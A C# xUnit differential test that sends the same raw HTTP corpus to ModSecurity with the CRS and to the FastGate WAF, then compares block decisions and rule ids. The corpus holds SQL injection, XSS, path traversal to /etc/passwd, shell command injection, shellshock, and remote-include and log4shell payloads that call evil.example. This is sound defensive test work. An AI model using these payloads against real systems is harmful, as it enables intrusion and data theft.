using System.Net.Sockets;
using System.Text;
using System.Text.RegularExpressions;
using FastGate.Tests.Infrastructure;
using FastGate.Waf;
using Xunit.Abstractions;

namespace FastGate.Tests.Waf;

/// <summary>
/// nginx + ModSecurity v3 + the Debian CRS 3.3.4 (the reference) and FastGate with the same rule folder, in front of
/// the same upstream: every request of the corpus goes to both over real sockets and must get the same block/pass
/// decision (403 or not) and the same matched rule ids (ModSecurity's from its JSON audit log, FastGate's from the same
/// engine and rule set the gateway runs); every disagreement is listed.
/// </summary>
[Collection(nameof(ModSecurityCollection))]
public class ModSecurityDifferentialTests(ModSecurityFixture fx, ITestOutputHelper output)
{
    private static readonly (string Name, string Request)[] Corpus = BuildCorpus();

    private static (string, string)[] BuildCorpus()
    {
        static string Get(string target, string extra = "") =>
            $"GET {target} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\r\nAccept: text/html\r\n{extra}Connection: close\r\n\r\n";
        static string Post(string target, string type, string body, string extra = "") =>
            $"POST {target} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\r\nAccept: */*\r\nContent-Type: {type}\r\nContent-Length: {Encoding.Latin1.GetByteCount(body)}\r\n{extra}Connection: close\r\n\r\n{body}";
        return
        [
            // benign
            ("benign: plain GET", Get("/")),
            ("benign: page with query", Get("/products?id=42&sort=price&page=2")),
            ("benign: search words", Get("/search?q=how+to+select+a+good+union+representative")),
            ("benign: apostrophe name", Get("/users?name=O%27Brien")),
            ("benign: email", Get("/subscribe?email=alice%40example.com")),
            ("benign: cookie", Get("/account", "Cookie: session=abc123; theme=dark\r\n")),
            ("benign: static file", Get("/static/app.js")),
            ("benign: form POST", Post("/login", "application/x-www-form-urlencoded", "username=alice&password=correct+horse+battery")),
            ("benign: form POST with charset", Post("/login", "application/x-www-form-urlencoded; charset=UTF-8", "username=alice&password=correct+horse+battery")),
            ("protocol: charset not allowed", Post("/login", "application/x-www-form-urlencoded; charset=utf-7", "username=alice")),
            ("benign: JSON POST", Post("/api/orders", "application/json", "{\"item\":\"book\",\"qty\":2,\"note\":\"gift wrap please\"}")),
            ("benign: JSON nested", Post("/api/profile", "application/json", "{\"user\":{\"name\":\"Bob\",\"tags\":[\"a\",\"b\"]}}")),
            ("benign: multipart", Post("/upload", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n")),
            ("benign: XML POST", Post("/api/orders", "application/xml", "<?xml version=\"1.0\"?><order id=\"7\"><item>book</item><qty>2</qty><note>gift wrap please</note></order>")),
            ("benign: SOAP", Post("/soap", "application/soap+xml; charset=utf-8", "<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>")),
            ("benign: text/xml", Post("/feed", "text/xml", "<feed><title>News of the day</title><entry lang=\"en\">Hello there</entry></feed>")),
            ("benign: broken XML", Post("/api/orders", "application/xml", "<order><item>book</order>")),
            ("benign: DELETE", "DELETE /api/orders/7 HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n\r\n"),
            ("benign: HEAD", "HEAD / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n\r\n"),
            ("benign: accept-language", Get("/", "Accept-Language: en-US,en;q=0.9\r\n")),
            // SQL injection
            ("sqli: tautology", Get("/item?id=1%27%20OR%20%271%27%3D%271")),
            ("sqli: union select", Get("/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users")),
            ("sqli: comment", Get("/login?user=admin%27--")),
            ("sqli: stacked", Get("/item?id=1;DROP%20TABLE%20users")),
            ("sqli: sleep", Get("/item?id=1%20AND%20SLEEP(5)")),
            ("sqli: in form body", Post("/login", "application/x-www-form-urlencoded", "username=admin%27+or+1%3D1--&password=x")),
            ("sqli: in JSON", Post("/api/search", "application/json", "{\"q\":\"1' UNION SELECT password FROM users--\"}")),
            ("sqli: in XML text", Post("/api/search", "application/xml", "<search><q>1' UNION SELECT password FROM users--</q></search>")),
            ("sqli: in XML CDATA", Post("/api/search", "text/xml", "<search><q><![CDATA[1 AND SLEEP(5)]]></q></search>")),
            ("sqli: in cookie", Get("/", "Cookie: id=1' or '1'='1\r\n")),
            ("sqli: benchmark", Get("/q?x=benchmark(10000000,md5(1))")),
            // XSS
            ("xss: script tag", Get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")),
            ("xss: img onerror", Get("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")),
            ("xss: javascript uri", Get("/go?url=javascript:alert(document.cookie)")),
            ("xss: svg onload", Get("/p?x=%3Csvg/onload%3Dalert(1)%3E")),
            ("xss: in form body", Post("/comment", "application/x-www-form-urlencoded", "text=%3Cscript%3Ealert%281%29%3C%2Fscript%3E")),
            ("xss: in XML text", Post("/comment", "application/xml", "<c><text>&lt;script&gt;alert(1)&lt;/script&gt;</text></c>")),
            ("xss: in XML attribute", Post("/comment", "application/xml", "<c><a href=\"javascript:alert(document.cookie)\">x</a></c>")),
            ("xss: attribute break", Get("/p?name=%22%20onmouseover%3D%22alert(1)")),
            // LFI / path traversal / RFI
            ("lfi: traversal in arg", Get("/download?file=../../../../etc/passwd")),
            ("lfi: encoded traversal", Get("/download?file=..%2f..%2f..%2fetc%2fpasswd")),
            ("lfi: os file", Get("/view?page=/etc/shadow")),
            ("rfi: remote include", Get("/index.php?page=http://evil.example/shell.txt?")),
            // RCE
            ("rce: unix command", Get("/ping?host=127.0.0.1;cat%20/etc/passwd")),
            ("rce: backticks", Get("/ping?host=%60id%60")),
            ("rce: shellshock", Get("/", "X-Test: () { :; }; /bin/bash -c 'id'\r\n")),
            ("rce: in XML", Post("/ping", "application/xml", "<ping><host>127.0.0.1;cat /etc/passwd</host></ping>")),
            ("lfi: in XML attribute", Post("/view", "application/xml", "<view page=\"../../../../etc/passwd\"/>")),
            ("rce: powershell", Get("/run?c=powershell.exe%20-enc%20abc")),
            // PHP / Java / Node
            ("php: injection", Get("/p?x=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E")),
            ("php: wrapper", Get("/p?file=php://filter/convert.base64-encode/resource=index.php")),
            ("java: class", Get("/p?x=java.lang.Runtime.getRuntime().exec(%22id%22)")),
            ("java: log4shell", Get("/", "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n")),
            // protocol violations / enforcement
            ("protocol: no user agent", "GET / HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nConnection: close\r\n\r\n"),
            ("protocol: no accept", "GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n"),
            ("protocol: numeric host", "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n\r\n"),
            ("protocol: bad url encoding", Get("/p?x=%zz%4")),
            ("protocol: restricted extension", Get("/backup/db.sql")),
            ("protocol: restricted file", Get("/.git/config")),
            ("protocol: header injection", Get("/p?x=a%0d%0aSet-Cookie:%20evil=1")),
            ("protocol: content type not allowed", Post("/api", "application/x-evil", "abc")),
            ("protocol: unusual method", "PROPFIND / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n\r\n"),
            ("protocol: null byte", Get("/p?x=a%00b")),
            // scanners
            ("scanner: nikto", "GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6)\r\nAccept: */*\r\nConnection: close\r\n\r\n"),
            ("scanner: sqlmap", "GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: sqlmap/1.5.2#stable (http://sqlmap.org)\r\nAccept: */*\r\nConnection: close\r\n\r\n"),
            ("scanner: nmap", "GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)\r\nAccept: */*\r\nConnection: close\r\n\r\n"),
            // session fixation
            ("session fixation", Get("/p?x=%3Cmeta%20http-equiv%3DSet-Cookie%20content%3D%22sessionid%3D1%22%3E")),
        ];
    }

    [LinuxFact]
    public async Task Same_decisions_as_ModSecurity_at_paranoia_level_1() => await CompareAsync(fx.Pl1);

    [LinuxFact]
    public async Task Same_decisions_as_ModSecurity_at_paranoia_level_2() => await CompareAsync(fx.Pl2);

    private async Task CompareAsync(ModSecurityFixture.Pair pair)
    {
        var disagreements = new List<string>();
        int sameIds = 0;
        var engine = WafRuleSet.Load(new WafLoadOptions { Rules = fx.CrsFolder, ParanoiaLevel = pair.ParanoiaLevel });
        foreach (var (name, request) in Corpus)
        {
            long logMark = File.Exists(pair.AuditLog) ? new FileInfo(pair.AuditLog).Length : 0;
            int modsec = await SendAsync(pair.Nginx.Port, request);
            int fastgate = await SendAsync(pair.Gateway.EndPoint.Port, request);
            // a request after it: nginx (one worker) has written the previous request's log lines by then
            await SendAsync(pair.Nginx.Port, "GET /__mark HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n\r\n");
            var modsecIds = ModSecurityIds(pair.AuditLog, logMark);
            var ours = OurIds(engine, request);
            bool same = (modsec == 403) == (fastgate == 403);
            if (modsecIds.SetEquals(ours)) sameIds++;
            else disagreements.Add($"rule ids differ: {name}");
            var line = $"{(same ? "same" : "DIFFERENT"),-9} {name,-40} modsecurity={modsec} [{string.Join(',', modsecIds.Order())}] fastgate={fastgate} [{string.Join(',', ours.Order())}]";
            output.WriteLine(line);
            if (!same) disagreements.Add(line);
        }
        output.WriteLine($"PL{pair.ParanoiaLevel}: {Corpus.Length - disagreements.Count}/{Corpus.Length} same decisions, {sameIds}/{Corpus.Length} same rule ids");
        Assert.True(disagreements.Count == 0, "disagreements with ModSecurity:\n" + string.Join("\n", disagreements));
    }

    private static HashSet<int> OurIds(WafRuleSet set, string raw)
    {
        var headEnd = raw.IndexOf("\r\n\r\n", StringComparison.Ordinal);
        var lines = raw[..headEnd].Split("\r\n");
        var start = lines[0].Split(' ');
        var req = new WafRequest { Method = start[0], Uri = start[1], Protocol = start[2] };
        foreach (var l in lines.Skip(1)) { var c = l.IndexOf(':'); req.Headers.Add((l[..c], l[(c + 1)..].Trim())); }
        var body = raw[(headEnd + 4)..];
        if (body.Length > 0) req.Body = Encoding.Latin1.GetBytes(body);
        var tx = new WafTransaction(set, req);
        if (!tx.Evaluate(1)) tx.Evaluate(2);
        return tx.Matches.Select(m => m.Id).ToHashSet();
    }

    private static readonly Regex IdInLog = new(@"""ruleId"":""(\d+)""", RegexOptions.Compiled);

    /// <summary>The rule ids ModSecurity's JSON audit log names from byte <paramref name="from"/> on (the mark requests left out).</summary>
    internal static HashSet<int> ModSecurityIds(string log, long from)
    {
        if (!File.Exists(log)) return [];
        using var f = new FileStream(log, FileMode.Open, FileAccess.Read, FileShare.ReadWrite);
        f.Seek(from, SeekOrigin.Begin);
        var text = new StreamReader(f).ReadToEnd();
        var ids = new HashSet<int>();
        foreach (var line in text.Split('\n'))
        {
            if (line.Contains("/__mark", StringComparison.Ordinal)) continue;
            foreach (Match m in IdInLog.Matches(line)) ids.Add(int.Parse(m.Groups[1].Value));
        }
        return ids;
    }

    /// <summary>Sends raw bytes, returns the response status (the connection closes after it).</summary>
    internal static async Task<int> SendAsync(int port, string request)
    {
        using var client = new TcpClient();
        await client.ConnectAsync(System.Net.IPAddress.Loopback, port);
        var stream = client.GetStream();
        await stream.WriteAsync(Encoding.Latin1.GetBytes(request));
        var buffer = new byte[4096];
        var sb = new StringBuilder();
        using var cts = new CancellationTokenSource(TimeSpan.FromSeconds(10));
        while (!sb.ToString().Contains("\r\n", StringComparison.Ordinal))
        {
            int n = await stream.ReadAsync(buffer, cts.Token);
            if (n == 0) break;
            sb.Append(Encoding.Latin1.GetString(buffer, 0, n));
        }
        var status = sb.ToString().Split(' ');
        return status.Length > 1 && int.TryParse(status[1], out var s) ? s : 0;
    }
}

[CollectionDefinition(nameof(ModSecurityCollection))]
public sealed class ModSecurityCollection : ICollectionFixture<ModSecurityFixture>;

/// <summary>One upstream; per paranoia level an nginx + ModSecurity + CRS and a FastGate with a WAF profile on the same folder.</summary>
public sealed class ModSecurityFixture : IAsyncLifetime
{
    public sealed record Pair(int ParanoiaLevel, NginxUpstream Nginx, TestGateway Gateway, string AuditLog);

    private DemoUpstreamServer _upstream = null!;
    private string _dir = "";
    public string CrsFolder { get; private set; } = "";
    public Pair Pl1 { get; private set; } = null!;
    public Pair Pl2 { get; private set; } = null!;

    public async Task InitializeAsync()
    {
        if (!OperatingSystem.IsLinux()) return;
        _upstream = await DemoUpstreamServer.StartAsync();
        _dir = Directory.CreateTempSubdirectory("fastgate-crs-").FullName;
        CrsFolder = MakeCrsFolder(_dir);
        Pl1 = await StartPairAsync(1);
        Pl2 = await StartPairAsync(2);
    }

    /// <summary>The folder layout FastGate reads and ModSecurity includes: crs-setup.conf + rules/ (Debian's files).</summary>
    internal static string MakeCrsFolder(string dir)
    {
        if (!File.Exists("/usr/lib/nginx/modules/ngx_http_modsecurity_module.so") || !Directory.Exists("/usr/share/modsecurity-crs/rules"))
            throw new InvalidOperationException("libnginx-mod-http-modsecurity and modsecurity-crs are not installed (tests/install-deps.sh)");
        var crs = Path.Combine(dir, "crs");
        Directory.CreateDirectory(crs);
        File.Copy("/etc/modsecurity/crs/crs-setup.conf", Path.Combine(crs, "crs-setup.conf"));
        Directory.CreateSymbolicLink(Path.Combine(crs, "rules"), "/usr/share/modsecurity-crs/rules");
        return crs;
    }

    /// <summary>
    /// nginx + ModSecurity v3 + the CRS of <paramref name="crs"/> at paranoia level <paramref name="pl"/> in front of
    /// <paramref name="upstream"/>, its JSON audit log at <paramref name="auditLog"/>; <paramref name="engine"/> holds the
    /// engine settings (SecRuleEngine, body access...).
    /// </summary>
    internal static Task<NginxUpstream> StartModSecurityAsync(string dir, string crs, int pl, string upstream, string auditLog, string engine)
    {
        var main = Path.Combine(dir, $"modsec-pl{pl}.conf");
        File.WriteAllText(main, $"""
            {engine}
            SecAuditEngine On
            SecAuditLogFormat JSON
            SecAuditLogType Serial
            SecAuditLogParts ABHZ
            SecAuditLog {auditLog}
            Include {crs}/crs-setup.conf
            SecAction "id:900000,phase:1,pass,nolog,setvar:tx.paranoia_level={pl},setvar:tx.executing_paranoia_level={pl}"
            Include {crs}/rules/*.conf
            """);
        return NginxUpstream.StartAsync(
            $$"""
            location / {
              modsecurity on;
              modsecurity_rules_file {{main}};
              proxy_pass {{upstream}};
            }
            """,
            mainExtra: "load_module /usr/lib/nginx/modules/ndk_http_module.so; load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so;");
    }

    private async Task<Pair> StartPairAsync(int pl)
    {
        var nginx = await StartModSecurityAsync(_dir, CrsFolder, pl, _upstream.Address.ToString().TrimEnd('/'), Path.Combine(_dir, $"audit-pl{pl}.log"), """
            SecRuleEngine On
            SecRequestBodyAccess On
            SecRule REQUEST_HEADERS:Content-Type "(?:application(?:/soap\+|/)|text/)xml" "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
            SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
            SecRequestBodyLimit 13107200
            SecRequestBodyNoFilesLimit 131072
            """);
        var config = $$"""
            {
              "listeners": [ { "name": "public", "address": "127.0.0.1:0" } ],
              "admin": { "address": "127.0.0.1:0" },
              "clusters": [ { "id": "backend", "destinations": [ { "address": "{{_upstream.Address.ToString().TrimEnd('/')}}" } ] } ],
              "waf": { "profiles": [ { "id": "crs", "rules": "{{CrsFolder}}", "mode": "block", "paranoiaLevel": {{pl}} } ] },
              "routes": [ { "id": "all", "match": { "pathPrefix": "/" }, "cluster": "backend", "waf": "crs" } ]
            }
            """;
        var gateway = await TestGateway.StartAsync(config);
        return new Pair(pl, nginx, gateway, Path.Combine(_dir, $"audit-pl{pl}.log"));
    }

    public async Task DisposeAsync()
    {
        if (!OperatingSystem.IsLinux()) return;
        foreach (var p in new[] { Pl1, Pl2 })
        {
            if (p is null) continue;
            await p.Gateway.DisposeAsync();
            await p.Nginx.DisposeAsync();
        }
        if (_upstream is not null) await _upstream.DisposeAsync();
        try { Directory.Delete(_dir, true); } catch (IOException) { }
    }
}
